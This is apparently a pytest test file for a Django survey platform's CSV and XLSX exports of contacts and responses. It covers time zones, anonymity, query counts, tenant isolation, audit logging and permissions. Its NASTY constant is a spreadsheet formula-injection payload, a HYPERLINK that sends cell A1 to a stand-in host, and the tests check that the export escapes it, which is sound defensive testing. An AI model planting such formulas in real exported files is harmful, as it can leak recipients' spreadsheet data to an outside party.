"""Contacts and responses as tables: complete, by the tenant's clock, and nothing that must not be told."""

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.contrib.admin.models import LogEntry
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from python_calamine import CalamineWorkbook

from apps.accounts.models import User
from apps.common import spreadsheets
from apps.contacts.models import BusinessCalendar, Company, Contact, LegalBasis
from apps.responses.models import Answer, Response
from apps.surveys import versions
from apps.surveys.models import Question
from apps.transfers import export_responses, export_rows
from apps.transfers.export_contacts import contact_table
from apps.transfers.export_rows import Table
from tests import factories

BERLIN = ZoneInfo("Europe/Berlin")
AT = datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
NASTY = '=HYPERLINK("https://x.example?"&A1,"ok")'


def lines(table: Table) -> list[dict[str, Any]]:
    return [dict(zip(table.header, row, strict=True)) for row in table.rows]


def read(answer: Any) -> list[dict[str, str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def visitor(tenant: Any) -> Client:
    return Client(headers={"host": "nordwind.resonanz.test"})


@pytest.fixture
def client(visitor: Client) -> Client:
    visitor.force_login(User.objects.create_superuser("chief"))
    return visitor


@pytest.fixture
def answered(tenant: Any) -> Callable[..., Response]:
    """Stores a response to a survey of two further questions."""
    survey = factories.SurveyFactory()
    options = [{"key": "late", "text": {"en": "Too late", "de": "Zu spät"}}, {"key": "lid", "text": {"en": "The lid"}}]
    parts = Question.objects.create(survey=survey, key="parts", kind="multiple", text={"en": "What?"}, options=options)
    again = Question.objects.create(survey=survey, key="again", kind="yes_no", text={"en": "Again?"})

    def answer(number: int = 1, **values: Any) -> Response:
        contact = factories.ContactFactory(name=f"Kim {number}", email=f"kim{number}@example.com")
        given = {"answered_at": AT, "updated_at": AT, "survey": survey, "contact": contact, "score": 3, **values}
        row = Response.objects.create(**given)
        Answer.objects.create(response=row, question=parts, choices=["late", "lid"])
        Answer.objects.create(response=row, question=again, value=0)
        return row

    return answer


def test_a_contact_is_told_whole_with_its_properties_as_columns(tenant: Any) -> None:
    company = Company.objects.create(name="Möbel & Söhne", external_id="m-1")
    contact = factories.ContactFactory(
        name="Zoë 😀", phone="+491701234567", time_zone="Europe/Berlin", country="DE", region="BY", company=company,
        properties={"plan": "pro", "seats": 3, "vip": True, "tags": ["a", "b"], "empty": None, "=cmd": "=1+1"},
    )  # fmt: skip
    factories.ContactFactory(properties="not an object")
    for kind, revoked in (("consent", None), ("existing_customer", AT)):
        LegalBasis.objects.create(contact=contact, kind=kind, source="shop", granted_at=AT, revoked_at=revoked)
    Contact.objects.filter(pk=contact.pk).update(created_at=AT, updated_at=AT)
    [row, other] = lines(contact_table(Contact.objects.order_by("-country"), zone=BERLIN))
    assert row == {
        "id": str(contact.pk), "external_id": contact.external_id, "email": contact.email, "phone": "+491701234567",
        "name": "Zoë 😀", "locale": "en", "time_zone": "Europe/Berlin", "country": "DE", "region": "BY",
        "company": "Möbel & Söhne", "company_external_id": "m-1", "legal_basis": "consent",
        "legal_basis_source": "shop", "legal_basis_since": "2026-03-01T23:30:00+01:00",
        "created_at": AT.astimezone(BERLIN), "updated_at": AT.astimezone(BERLIN),
        "properties.plan": "pro", "properties.seats": 3, "properties.vip": True, "properties.tags": '["a","b"]',
        "properties.empty": None, "properties.=cmd": "=1+1",
    }  # fmt: skip
    assert other["legal_basis"] is None


def test_properties_beyond_the_most_frequent_ones_share_a_column(tenant: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_rows, "MAX_PROPERTIES", 1)
    factories.ContactFactory(properties={"often": 1, "rare": 2})
    factories.ContactFactory(properties={"often": 3})
    table = contact_table(Contact.objects.order_by("pk"), zone=BERLIN)
    rows = lines(table)
    assert [(row["properties.often"], row[export_rows.REST]) for row in rows] == [(1, '{"rare":2}'), (3, None)]


def test_a_response_is_told_with_a_column_per_question(answered: Callable[..., Response]) -> None:
    row = answered(
        comment=NASTY, tags=["delivery", "urgent"], suspicions=["trap", "burst"], is_suspected=True,
        is_incentivised=True, properties={"store": "Köln"},
    )  # fmt: skip
    [found] = lines(export_responses.response_table(Response.objects.all(), zone=BERLIN))
    assert found == {
        "id": str(row.pk), "contact_id": str(row.contact_id), "contact_external_id": row.contact.external_id,  # type: ignore[union-attr]
        "contact_email": "kim1@example.com", "contact_name": "Kim 1", "survey": "order", "survey_version": None,
        "touchpoint": None, "channel": "email", "language": "", "score": 3, "segment": "detractor", "comment": NASTY,
        "call_back": "", "partial": False, "tags": "delivery; urgent",
        "answered_at": AT.astimezone(BERLIN), "updated_at": AT.astimezone(BERLIN),
        "suspected": True, "suspected_because": "trap; burst", "incentivised": True,
        "answers.order.parts": "Too late; The lid", "answers.order.again": False,
        "answers.order.delivery": None, "properties.store": "Köln",
    }  # fmt: skip


def test_an_anonymous_answer_names_nobody_and_no_time_of_day_and_waits_until_there_are_five(
    answered: Callable[..., Response],
) -> None:
    survey = answered(9).survey
    Response.objects.all().delete()
    survey.is_anonymous = True
    survey.save()
    versions.publish(survey_id=survey.pk, now=timezone.now())
    survey.refresh_from_db()
    # As they could stand there after a mistake: with a contact and a time.
    for number in range(4):
        answered(number, version=survey.current_version, answered_at=AT + timedelta(minutes=number))
    assert lines(export_responses.response_table(Response.objects.all(), zone=BERLIN)) == []
    answered(4, version=survey.current_version)
    table = export_responses.response_table(Response.objects.all(), zone=BERLIN)
    rows = lines(table)
    assert len(rows) == 5
    assert {(row["answered_at"], row["updated_at"]) for row in rows} == {("2026-03-01", "2026-03-01")}
    assert not [cell for row in rows for cell in row.values() if "kim" in str(cell).lower()]
    assert {row[name] for row in rows for name in table.header if name.startswith("contact")} == {None}


def test_more_rows_cost_no_more_queries_within_a_part(answered: Callable[..., Response]) -> None:
    def cost(make: Callable[[], Table]) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert lines(make())
        return len(captured)

    def both() -> tuple[int, int]:
        return (
            cost(lambda: contact_table(Contact.objects.order_by("pk"), zone=BERLIN)),
            cost(lambda: export_responses.response_table(Response.objects.order_by("pk"), zone=BERLIN)),
        )

    answered()
    few = both()
    for number in range(2, 8):
        answered(number)
    assert both() == few
    assert few == (4, 7)


def test_rows_come_in_order_however_many_parts_there_are(
    answered: Callable[..., Response], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_rows, "CHUNK", 2)
    for number in range(7):
        answered(number, answered_at=AT + timedelta(hours=number % 3))
    found = Response.objects.order_by("-answered_at", "-pk")
    rows = lines(export_responses.response_table(found, zone=BERLIN))
    assert [row["id"] for row in rows] == [str(pk) for pk in found.values_list("pk", flat=True)]
    assert len(rows) == 7


def test_a_file_is_made_in_its_own_tenant_wherever_the_thread_stands_then(tenant: Any, other_tenant: Any) -> None:
    factories.ContactFactory(name="Ours")
    table = contact_table(Contact.objects.order_by("pk"), zone=BERLIN)
    connection.set_tenant(other_tenant)
    assert [row["name"] for row in lines(table)] == ["Ours"]


def test_a_file_that_is_broken_off_leaves_no_cursor_open(
    answered: Callable[..., Response], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_rows, "CHUNK", 1)
    monkeypatch.setattr(spreadsheets, "BATCH", 1)
    for number in range(4):
        answered(number)

    def open_cursors() -> int:
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors")
            return int(cursor.fetchone()[0])

    found = export_responses.response_table(Response.objects.order_by("pk"), zone=BERLIN)
    parts = export_rows.here(spreadsheets.csv_parts(found.header, found.rows))
    del found
    assert [next(parts), next(parts)]
    assert open_cursors() == 1
    parts.close()  # type: ignore[attr-defined]  # as the answer does it
    assert open_cursors() == 0


# --- the pages ---


def test_the_pages_hand_out_what_the_filters_leave_by_the_tenants_clock_and_note_who_took_it(
    client: Client, answered: Callable[..., Response]
) -> None:
    BusinessCalendar.objects.create(pk=1, time_zone="America/New_York")
    answered(1, comment=NASTY, score=3)
    answered(2, comment="x" * 40_000, score=10)
    answer = client.get("/responses/export.csv", {"segment": "detractor", "q": "kim"})
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    day = timezone.localdate(timezone=ZoneInfo("America/New_York"))
    assert answer["Content-Disposition"] == f'attachment; filename="responses-{day:%Y-%m-%d}.csv"'
    assert answer["Cache-Control"] == "private, no-store"
    [row] = read(answer)
    assert (row["comment"], row["answered_at"]) == (f"'{NASTY}", "2026-03-01T17:30:00-05:00")
    book = client.get("/responses/export.xlsx")
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(book.streaming_content)))  # type: ignore[attr-defined]
    cells = sheet.get_sheet_by_index(0).to_python()
    place = cells[0].index("comment")
    assert sorted(str(line[place])[-1] for line in cells[1:]) == [NASTY[-1], "…"]
    assert [row["email"] for row in read(client.get("/contacts/export.csv", {"q": "kim2@"}))] == ["kim2@example.com"]
    notes = list(LogEntry.objects.order_by("pk").values_list("object_repr", "change_message", "user__username"))
    assert notes == [
        ("CSV q, segment", "Exported as a file.", "chief"), ("XLSX", "Exported as a file.", "chief"),
        ("CSV q", "Exported as a file.", "chief"),
    ]  # fmt: skip


def test_an_export_needs_the_right_to_see_all_of_it(visitor: Client) -> None:
    addresses = [f"/{name}/export.{kind}" for name in ("contacts", "responses") for kind in ("csv", "xlsx")]
    assert {visitor.get(address).status_code for address in addresses} == {302}
    visitor.force_login(User.objects.create(username="reader"))
    assert {visitor.get(address).status_code for address in addresses} == {403}
    assert "export." not in visitor.get("/responses/").content.decode()
    visitor.force_login(User.objects.create_superuser("chief"))
    assert visitor.get("/contacts/export.pdf").status_code == 404
    assert b"".join(visitor.get("/responses/export.csv", {"contacts": "gone"}).streaming_content)  # type: ignore[attr-defined]
